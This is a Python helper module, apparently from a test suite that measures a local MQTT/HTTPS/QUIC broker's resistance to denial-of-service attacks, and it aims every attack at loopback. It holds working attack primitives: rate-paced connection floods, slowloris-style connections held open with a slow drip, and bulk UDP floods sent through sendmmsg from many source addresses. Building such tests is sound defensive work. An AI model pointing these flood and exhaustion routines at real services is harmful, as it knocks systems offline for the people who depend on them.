"""What the attacks share: paces, connections that are held or dialled again, datagrams, QUIC clients."""

import asyncio
import collections
import contextlib
import ctypes
import select
import socket
import ssl
import struct
import time

import wire

WEEK_S = 604_800
# Sources on loopback that are not the honest clients'.
SOURCES = [f"127.{net}.{host}.9" for net in (1, 2) for host in range(1, 33)]


class Pace:
    """So many a second for so long, whatever each takes."""

    def __init__(self, seconds, rate):
        self.begin, self.seconds, self.rate, self.done = time.monotonic(), seconds, rate, 0

    def due(self):
        """How many are due now; None when the time is up."""
        gone = time.monotonic() - self.begin
        if gone >= self.seconds:
            return None
        return int(gone * self.rate) - self.done


def spread(pace, one):
    """Does `one` at the pace. What fails was tried: connections are refused, or, in a control run, nobody listens."""
    while (due := pace.due()) is not None:
        if due <= 0:
            time.sleep(0.0005)
            continue
        for _ in range(min(due, 256)):
            with contextlib.suppress(OSError):
                one(pace.done)
            pace.done += 1
            if pace.due() is None:
                break
    return pace.done


def new_network(number):
    """An address on loopback that is a network of its own to the broker; there are 16 million, in 250 wider networks."""
    return f"127.{3 + number % 250}.{number // 250 % 254 + 1}.{number // 63_500 % 254 + 1}"


def from_somewhere(kind, number, source=None):
    sock = socket.socket(socket.AF_INET, kind)
    sock.bind((source or SOURCES[number % len(SOURCES)], 0))
    return sock


def dial(port, number, source=None):
    sock = from_somewhere(socket.SOCK_STREAM, number, source)
    sock.settimeout(5)
    try:
        sock.connect(("127.0.0.1", port))
    except OSError:
        sock.close()
        raise
    return sock


def tls(site, protocols=("http/1.1",)):
    context = ssl.create_default_context(cafile=site["ca"])
    context.set_alpn_protocols(list(protocols))
    return context


def dial_tls(site, context, number, kind="https", source=None):
    sock = dial(site[kind], number, source)
    try:
        return context.wrap_socket(sock, server_hostname="localhost")
    except OSError:
        sock.close()
        raise


def logged_in(site, name, durable=True, user=None, number=0, will=None):
    """A client of the attacker, who has an account, in MQTT 5."""
    sock = dial(site["mqtt"], number)
    sock.sendall(wire.connect5(name, user or site["attacker"], site["password"], WEEK_S if durable else 0, will))
    return sock


def answer(sock, packets):
    """The next packet that the broker sends; None if it has closed or says nothing."""
    while True:
        for packet in packets.take(b""):
            return packet
        try:
            data = sock.recv(65536)
        except OSError:
            return None
        if not data:
            return None
        packets.buffer += data


class Line:
    """A connection that is dialled again when it breaks."""

    def __init__(self, dial):
        self.dial, self.sock, self.fresh, self.dialled = dial, None, False, 0

    def open(self):
        self.fresh = self.sock is None
        if self.fresh:
            self.sock, self.dialled = self.dial(self.dialled), self.dialled + 1
        return self.sock

    def send(self, data):
        try:
            self.open().sendall(data)
        except OSError:
            self.close()
            raise

    def read(self):
        """What is there, so that it is not the server that waits."""
        self.sock.setblocking(False)
        try:
            while self.sock.recv(65536):
                pass
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            self.sock.settimeout(5)

    def close(self):
        if self.sock:
            self.sock.close()
        self.sock = None


class Held:
    """Connections that are kept open: each sends its first bytes and then a drip a second, and is opened again when the
    server has closed it."""

    def __init__(self, open_one, first, drip=b"", lasting_s=None):
        self.open_one, self.first, self.drip, self.lasting_s = open_one, first, drip, lasting_s
        # In the order in which they were opened.
        self.begun = collections.deque()
        self.left, self.poll, self.dripped = {}, select.poll(), time.monotonic()

    def open(self, number):
        sock = self.open_one(number)
        sock.setblocking(False)
        self.left[sock.fileno()] = (sock, memoryview(self.first))
        self.begun.append((time.monotonic(), sock))
        self.poll.register(sock, select.POLLIN | select.POLLOUT)

    def forget(self, sock):
        self.poll.unregister(sock)
        del self.left[sock.fileno()]
        sock.close()

    def work(self):
        while self.lasting_s and self.begun and time.monotonic() - self.begun[0][0] > self.lasting_s:
            sock = self.begun.popleft()[1]
            if sock.fileno() >= 0:
                self.forget(sock)
        for number, event in self.poll.poll(2):
            sock, left = self.left[number]
            try:
                if event & ~select.POLLOUT and not sock.recv(65536):
                    raise OSError
                if event & select.POLLOUT and left:
                    left = left[sock.send(left[:65536]) :]
                    self.left[number] = (sock, left)
                if not left:
                    self.poll.modify(sock, select.POLLIN)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except OSError:
                self.forget(sock)
        if self.drip and time.monotonic() - self.dripped > 1:
            self.dripped = time.monotonic()
            for sock, left in self.left.values():
                with contextlib.suppress(OSError):
                    if not left:
                        sock.send(self.drip)


def hold(seconds, rate, at_once, open_one, first=b"", drip=b"", lasting_s=None):
    """At most so many connections at once, opened at a rate; see `Held`. How many were opened: beyond `at_once`, only as
    many as the server closes."""
    held, pace, opened, most = Held(open_one, first, drip, lasting_s), Pace(seconds, rate), 0, 0
    while (due := pace.due()) is not None:
        for _ in range(min(due, 64)):
            pace.done += 1
            if len(held.left) < at_once:
                opened += 1
                with contextlib.suppress(OSError):
                    held.open(opened)
        most = max(most, len(held.left))
        if held.left:
            held.work()
        else:
            time.sleep(0.002)
    return {"number": opened, "detail": f"{most} open at once"}


class Vector(ctypes.Structure):
    """struct iovec"""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr, for connected sockets: a datagram and nothing else."""

    _fields_ = [
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("vectors", ctypes.POINTER(Vector)),
        ("vector_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("padding", ctypes.c_uint),
        ("sent", ctypes.c_uint),
    ]


class Datagrams:
    """Datagrams laid out once, so that the kernel takes many at a call (sendmmsg)."""

    def __init__(self, datagrams):
        self.memory = [ctypes.create_string_buffer(datagram, len(datagram)) for datagram in datagrams]
        self.vectors = [Vector(ctypes.addressof(memory), len(memory)) for memory in self.memory]
        self.messages = (Message * len(datagrams))(*(Message(vectors=ctypes.pointer(vector), vector_count=1) for vector in self.vectors))
        self.size, self.call = len(datagrams), ctypes.CDLL(None, use_errno=True).sendmmsg

    def send(self, sock, first, count):
        """At most `count` of them, from `first` on and no further than the last; how many were taken."""
        first %= self.size
        count = min(count, self.size - first)
        return max(0, self.call(sock.fileno(), ctypes.byref(self.messages, first * ctypes.sizeof(Message)), count, socket.MSG_DONTWAIT))


# Datagrams of one address at a call: each address comes again several times a second.
AT_ONCE = 32


def flood(seconds, rate, port, datagrams):
    """Datagrams from many addresses, none of which answers. Counts what the kernel took."""
    socks = [from_somewhere(socket.SOCK_DGRAM, number) for number in range(4 * len(SOURCES))]
    for sock in socks:
        sock.connect(("127.0.0.1", port))
    laid_out, pace, calls = Datagrams(datagrams), Pace(seconds, rate), 0
    while (due := pace.due()) is not None:
        if due <= 0:
            time.sleep(0.001)
            continue
        for _ in range(64):
            if due <= 0:
                break
            calls += 1
            # None are taken where the server's queue is full or has refused one.
            taken = laid_out.send(socks[calls % len(socks)], pace.done, min(due, AT_ONCE))
            pace.done += taken
            due -= taken
    return pace.done


class Peers:
    """Sockets that are peers of their own to a server that keeps state for each address and port."""

    def __init__(self, port, count):
        self.socks = [from_somewhere(socket.SOCK_DGRAM, number) for number in range(count)]
        for sock in self.socks:
            sock.connect(("127.0.0.1", port))
            sock.setblocking(False)

    def send(self, number, data):
        """What it has been sent is read, so that the kernel has room for it."""
        sock = self.socks[number % len(self.socks)]
        with contextlib.suppress(OSError):
            while sock.recv(65536):
                pass
        sock.send(data)


def rounds(seconds, rate, one, at_once=32):
    """Does the coroutine `one` at the pace, so many at a time, and ends those that have not ended at the end."""

    async def tried(number, room):
        # The last two are aioquic's, of connections that have just been closed.
        with contextlib.suppress(OSError, ConnectionError, asyncio.TimeoutError, AssertionError, IndexError):
            await one(number)
        room.release()

    async def all_of_them():
        # What nobody waits for any longer may fail in silence.
        asyncio.get_running_loop().set_exception_handler(lambda *_: None)
        pace, room, tasks = Pace(seconds, rate), asyncio.Semaphore(at_once), set()
        while (due := pace.due()) is not None:
            if due <= 0 or room.locked():
                await asyncio.sleep(0.002)
                continue
            await room.acquire()
            task = asyncio.create_task(tried(pace.done, room))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
            pace.done += 1
            await asyncio.sleep(0)
        for task in list(tasks):
            task.cancel()
        return pace.done

    return asyncio.run(all_of_them())
